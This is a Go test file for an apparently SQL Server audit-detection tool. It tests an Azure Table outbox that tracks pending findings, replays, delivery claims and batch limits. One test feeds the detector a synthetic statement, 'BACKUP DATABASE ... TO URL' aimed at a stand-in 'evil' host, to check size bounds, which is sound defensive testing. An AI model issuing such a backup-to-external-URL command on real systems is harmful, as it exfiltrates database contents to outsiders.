package store

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"
	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/handler/internal/queuemsg"
	"github.com/xelwatch/xelwatch/xel/audit"
)

func TestUndispatchedFilter(t *testing.T) {
	for _, tt := range []struct {
		name   string
		before time.Time
		want   string
	}{
		{"utc", time.Date(2026, 11, 21, 20, 31, 39, 120000000, time.UTC),
			"PartitionKey eq '!outbox' and recorded_at lt datetime'2026-11-21T20:31:39.1200000Z'"},
		{"offset zone", time.Date(2026, 11, 21, 21, 31, 39, 0, time.FixedZone("CET", 3600)),
			"PartitionKey eq '!outbox' and recorded_at lt datetime'2026-11-21T20:31:39.0000000Z'"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := undispatchedFilter(tt.before); got != tt.want {
				t.Errorf("undispatchedFilter = %s, want %s", got, tt.want)
			}
		})
	}
}

func undispatchedIDs(t *testing.T, s *Store, before time.Time, max int) []string {
	t.Helper()
	fs, err := s.ListUndispatched(context.Background(), before, max)
	if err != nil {
		t.Fatalf("ListUndispatched: %v", err)
	}
	ids := make([]string, len(fs))
	for i, f := range fs {
		ids[i] = f.DetectionID
	}
	slices.Sort(ids)
	return ids
}

// outboxEntries counts the entries of the outbox partition.
func outboxEntries(t *testing.T, s *Store) int {
	t.Helper()
	f := "PartitionKey eq " + odataString(outboxPartition)
	n := 0
	for _, err := range listEntities(context.Background(), s.detections, &aztables.ListEntitiesOptions{Filter: &f}, "outbox",
		func(raw []byte) ([]byte, error) { return raw, nil }) {
		if err != nil {
			t.Fatal(err)
		}
		n++
	}
	return n
}

// TestAzuriteOutbox: pending findings are listed until the notifier
// records them; recording does not disturb deliveries; replays after
// delivery and rows without an outbox entry are never listed; the outbox
// partition empties and stays out of ListDetections.
func TestAzuriteOutbox(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	later := time.Now().Add(time.Minute)
	a, b, c := testFinding("outbox-a"), testFinding("outbox-b"), testFinding("outbox-c")
	if err := s.RecordPending(ctx, a, b); err != nil {
		t.Fatal(err)
	}
	if err := s.RecordPending(ctx, a); err != nil { // a replay
		t.Fatal(err)
	}
	if got, want := undispatchedIDs(t, s, later, 100), []string{"outbox-a", "outbox-b"}; !slices.Equal(got, want) {
		t.Fatalf("undispatched = %v, want %v", got, want)
	}
	if got := undispatchedIDs(t, s, time.Now().Add(-time.Hour), 100); len(got) != 0 {
		t.Fatalf("undispatched before an hour ago = %v, want none", got)
	}
	if got := undispatchedIDs(t, s, later, 1); len(got) != 1 {
		t.Fatalf("undispatched with max 1 = %v, want one", got)
	}
	fs, err := s.ListUndispatched(ctx, later, 100)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range fs {
		want := testFinding(f.DetectionID)
		gotJSON, _ := json.Marshal(f)
		wantJSON, _ := json.Marshal(want)
		if string(gotJSON) != string(wantJSON) {
			t.Errorf("listed finding:\n got %s\nwant %s", gotJSON, wantJSON)
		}
	}

	// The notifier records a; a second delivery of its message records it
	// again while the first one's claim is held: the claim survives.
	if err := s.RecordFinding(ctx, a); err != nil {
		t.Fatal(err)
	}
	tok, err := s.ClaimDelivery(ctx, a.DetectionID, "webhook", time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RecordFinding(ctx, a); err != nil {
		t.Fatalf("RecordFinding again: %v", err)
	}
	if err := s.MarkDelivered(ctx, a.DetectionID, "webhook", tok); err != nil {
		t.Fatalf("MarkDelivered after RecordFinding: %v", err)
	}
	d, err := s.GetDetection(ctx, a.DetectionID)
	if err != nil {
		t.Fatal(err)
	}
	if !d.Dispatched || d.Deliveries["webhook"].State != DeliveryDelivered || d.Deliveries["webhook"].Attempts != 1 {
		t.Fatalf("after RecordFinding: dispatched %v, webhook %+v", d.Dispatched, d.Deliveries["webhook"])
	}
	if got, want := undispatchedIDs(t, s, later, 100), []string{"outbox-b"}; !slices.Equal(got, want) {
		t.Fatalf("undispatched after notifier = %v, want %v", got, want)
	}
	if n := outboxEntries(t, s); n != 1 {
		t.Errorf("%d outbox entries, want 1 (b)", n)
	}

	// RecordFinding first, RecordPending later (a blob replayed after
	// delivery): never listed, and the relay drops the entry.
	if err := s.RecordFinding(ctx, c); err != nil {
		t.Fatal(err)
	}
	if err := s.RecordPending(ctx, c); err != nil {
		t.Fatal(err)
	}
	if n := outboxEntries(t, s); n != 2 {
		t.Errorf("%d outbox entries, want 2 (b, c)", n)
	}
	if got, want := undispatchedIDs(t, s, later, 100), []string{"outbox-b"}; !slices.Equal(got, want) {
		t.Fatalf("undispatched after a replay = %v, want %v", got, want)
	}

	// A row written before the outbox existed has no entry.
	legacy := testFinding("legacy")
	js, _ := json.Marshal(legacy)
	pk, rk := detectionKeys(legacy.DetectionID)
	body, _ := json.Marshal(aztables.EDMEntity{Entity: aztables.Entity{PartitionKey: pk, RowKey: rk}, Properties: map[string]any{
		"detection_id": legacy.DetectionID, "rule": legacy.Rule, "recorded_at": edmTime(time.Now().Add(-time.Hour)),
		"finding": string(js), "dispatched": false,
	}})
	if _, err := s.detections.AddEntity(ctx, body, nil); err != nil {
		t.Fatal(err)
	}
	if got, want := undispatchedIDs(t, s, later, 100), []string{"outbox-b"}; !slices.Equal(got, want) {
		t.Fatalf("undispatched with a legacy row = %v, want %v", got, want)
	}
	if err := s.RecordFinding(ctx, b); err != nil {
		t.Fatal(err)
	}
	if got := undispatchedIDs(t, s, later, 100); len(got) != 0 {
		t.Fatalf("undispatched at the end = %v, want none", got)
	}
	if n := outboxEntries(t, s); n != 0 {
		t.Errorf("%d outbox entries left after every finding was dispatched", n)
	}

	// A damaged entry is reported once and dropped.
	junk, _ := json.Marshal(map[string]any{"PartitionKey": outboxPartition, "RowKey": "junk", "recorded_at": edmTime(time.Now()), "finding": "{not json"})
	if _, err := s.detections.AddEntity(ctx, junk, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := s.ListUndispatched(ctx, later, 100); err == nil {
		t.Error("a damaged entry was not reported")
	}
	if _, err := s.ListUndispatched(ctx, later, 100); err != nil {
		t.Errorf("a damaged entry is reported again: %v", err)
	}

	// ListDetections lists rows, never outbox entries.
	if err := s.RecordPending(ctx, testFinding("outbox-d")); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for d, err := range s.ListDetections(ctx, time.Time{}) {
		if err != nil {
			t.Fatalf("ListDetections: %v", err)
		}
		ids = append(ids, d.ID)
	}
	slices.Sort(ids)
	if want := []string{"legacy", "outbox-a", "outbox-b", "outbox-c"}; !slices.Equal(ids, want) {
		t.Errorf("ListDetections = %v, want %v", ids, want)
	}
}

// TestAzuriteOutboxBatches: many findings at once go out in batch
// transactions within the service limits, oversized ones bounded as
// their queue message will be.
func TestAzuriteOutboxBatches(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	var fs []detect.Finding
	for i := range 250 {
		f := testFinding(fmt.Sprintf("bulk-%03d", i))
		if i%50 == 0 {
			f.Why = strings.Repeat("x", 100_000) // over the queue message limit
			for range 40 {
				f.Records = append(f.Records, detect.Evidence{Statement: strings.Repeat("BACKUP ", 4000)})
			}
		}
		fs = append(fs, f)
	}
	if err := s.RecordPending(ctx, fs...); err != nil {
		t.Fatal(err)
	}
	got, err := s.ListUndispatched(ctx, time.Now().Add(time.Minute), 1000)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(fs) {
		t.Fatalf("listed %d, want %d", len(got), len(fs))
	}
	for _, f := range got {
		var i int
		fmt.Sscanf(f.DetectionID, "bulk-%03d", &i)
		want := queuemsg.Bound(fs[i])
		if f.Why != want.Why || len(f.Records) != len(want.Records) {
			t.Errorf("%s: why of %d bytes, %d records; want %d, %d", f.DetectionID, len(f.Why), len(f.Records), len(want.Why), len(want.Records))
		}
		if b, err := queuemsg.Marshal(f); err != nil || len(b) > queuemsg.MaxJSON {
			t.Errorf("%s: listed finding does not fit a message: %d bytes, %v", f.DetectionID, len(b), err)
		}
	}
}

func TestRecordPendingEmptyID(t *testing.T) {
	var s Store
	for _, tt := range []struct {
		name string
		fn   func(context.Context, detect.Finding) error
	}{{"pending", func(ctx context.Context, f detect.Finding) error { return s.RecordPending(ctx, f) }}, {"finding", s.RecordFinding}} {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.fn(context.Background(), detect.Finding{})
			if err == nil || errors.Is(err, ErrConflict) {
				t.Fatalf("empty id: %v, want an error", err)
			}
		})
	}
}

// TestOutboxEntryOfPaddedStatement: the outbox entries of the findings of
// a 600,000-character padded backup, worst-case escaped fields included,
// stay within a queue message (64 KiB), far below an entity.
func TestOutboxEntryOfPaddedStatement(t *testing.T) {
	e, err := detect.New(detect.DefaultConfig(), detect.NewMemoryState())
	if err != nil {
		t.Fatal(err)
	}
	nasty := strings.Repeat("\x01<", 400)
	rec := audit.Record{EventTime: time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC), ActionID: "BA", ClassType: "DB", Succeeded: true,
		ServerPrincipalName: nasty, ServerInstanceName: nasty, DatabaseName: nasty, ClientIP: nasty, ApplicationName: nasty,
		FileName: strings.Repeat(nasty, 4), Statement: "BACKUP DATABASE [db] TO URL = 'https://evil/" + nasty + "' /*" +
			strings.Repeat("\x01", 600_000) + "*/ WITH COPY_ONLY"}
	fs, err := e.Evaluate(context.Background(), &rec)
	if err != nil || len(fs) < 3 {
		t.Fatalf("%d findings, %v", len(fs), err)
	}
	for _, f := range fs {
		ent, err := outboxEntity(f, edmTime(time.Now()))
		if err != nil {
			t.Fatal(err)
		}
		if len(ent.JSON) > 64<<10 {
			t.Errorf("%s: outbox entry of %d bytes", f.Rule, len(ent.JSON))
		}
	}
}
